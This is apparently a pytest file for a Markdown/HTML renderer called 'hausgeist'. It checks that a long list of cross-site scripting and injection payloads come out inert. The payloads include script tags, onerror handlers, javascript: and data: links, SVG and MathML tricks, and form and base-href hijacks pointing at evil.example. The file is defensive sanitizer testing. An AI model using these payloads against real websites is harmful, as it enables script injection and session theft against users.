# SPDX-License-Identifier: EUPL-1.2
"""Payloads written to run script, load things or dress up as the page: all of them stay inert."""

from html.parser import HTMLParser

import pytest

from hausgeist.render import render_blocks
from hausgeist.render.clean import _ATTRIBUTES, _MATH, _WORDS

RAW = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><maction actiontype='statusline#http://evil.example' xlink:href='javascript:1'>x</maction></math>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src='//evil.example/x.swf'>",
    "<link rel=stylesheet href='//evil.example/x.css'>",
    "<style>@import '//evil.example/x.css';</style>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href='//evil.example/'>",
    "<form action='//evil.example'><input name=q><button>Weiter</button></form>",
    "<button formaction='javascript:alert(1)'>x</button>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<a href='javascript:alert(1)'>x</a>",
    "<div style='position:fixed;inset:0'>x</div>",
    "<p class='composer' id='composer'>x</p>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea><script>alert(1)</script></textarea>",
    "<xmp><script>alert(1)</script></xmp>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<img src='https://evil.example/p.png'>",
    "<img srcset='https://evil.example/p.png 2x'>",
    "<div hx-get='/admin' hx-trigger='load'>x</div>",
    "<x data-hx-on:load='alert(1)'>x</x>",
    "<script\x00>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    '"><img src=x onerror=alert(1)>',
    "'-alert(1)-'",
]
MARKDOWN = [
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/admin/users)",
    "[x](\\\\evil.example\\share)",
    "![x](javascript:alert(1))",
    "![x](https://evil.example/p.png)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x][r]\n\n[r]: https://evil.example/p.png",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    '<https://evil.example/"onmouseover=alert(1)>',
    '[x](https://evil.example/" onmouseover="alert(1))',
    "[x](https://evil.example 'a\" onclick=\"alert(1)')",
    "```html\n<script>alert(1)</script>\n```",
    '```"><img src=x onerror=alert(1)>\nx\n```',
    "```js onclick=alert(1)\nx\n```",
    "`<img src=x onerror=alert(1)>`",
    "| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\href{javascript:alert(1)}{x}$",
    "$$\\style{position:fixed}{x}$$",
    "$\\rule{9999px}{9999px}$",
    "$\\text{</mtext></math><script>alert(1)</script>}$",
    "# <script>alert(1)</script>",
    "> <svg onload=alert(1)>",
    "- <iframe src=//evil.example></iframe>",
    "\u202e<script>alert(1)</script>",
    "[\u202egnp.exe](https://evil.example)",
]


class Reader(HTMLParser):
    """Collects every element and attribute, as a browser would see them."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))

    def handle_decl(self, decl):
        self.found.append((f"!{decl}", {}))

    def handle_pi(self, data):
        self.found.append((f"?{data}", {}))


@pytest.mark.parametrize("payload", [*RAW, *MARKDOWN, *(f"Text davor {raw} danach" for raw in RAW)])
def test_a_payload_stays_inert(payload):
    """Only the renderer's own elements and attributes appear, and links lead to the web or to mail."""
    reader = Reader()
    reader.feed("".join(render_blocks(payload, "de")))
    for tag, attributes in reader.found:
        assert tag in _WORDS | _MATH
        for name, value in attributes.items():
            assert name in _ATTRIBUTES.get(tag, set())
            assert not name.startswith(("on", "hx-", "data-hx"))
            if name == "href":
                assert value.startswith(("http://", "https://", "mailto:"))
            if name == "class":
                assert "composer" not in value
    assert not any(
        tag in {"img", "script", "svg", "iframe", "form", "style"} for tag, _ in reader.found
    )
